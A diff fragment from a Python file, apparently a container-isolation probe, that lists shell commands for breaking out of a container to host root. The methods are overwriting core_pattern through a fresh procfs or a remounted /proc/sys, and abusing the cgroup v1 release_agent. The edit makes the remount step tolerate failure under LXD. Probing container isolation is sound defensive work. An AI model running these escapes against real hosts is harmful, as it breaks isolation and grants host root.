@@ -87,7 +87,8 @@ def _write_back(path: str) -> str:
 ESCAPES = {
     # a fresh procfs, and the host's core_pattern through it (a pipe there runs as host root)
     "core_pattern": "mkdir -p /tmp/p && mount -t proc proc /tmp/p && " + _write_back("/tmp/p/sys/kernel/core_pattern"),
-    "proc remount": "mount -o remount,rw /proc/sys && " + _write_back("/proc/sys/kernel/core_pattern"),
+    # (LXD doesn't mount /proc/sys on its own: then the write is tried as it is)
+    "proc remount": "{ mount -o remount,rw /proc/sys || true; } && " + _write_back("/proc/sys/kernel/core_pattern"),
     # cgroup v1 release_agent: runs as host root when a cgroup empties
     "release_agent": "mkdir -p /tmp/cg && mount -t cgroup -o memory cgroup /tmp/cg && " + _write_back("/tmp/cg/release_agent"),
     "sysrq": "echo h > /proc/sysrq-trigger",  # h: help, harmless even where it works
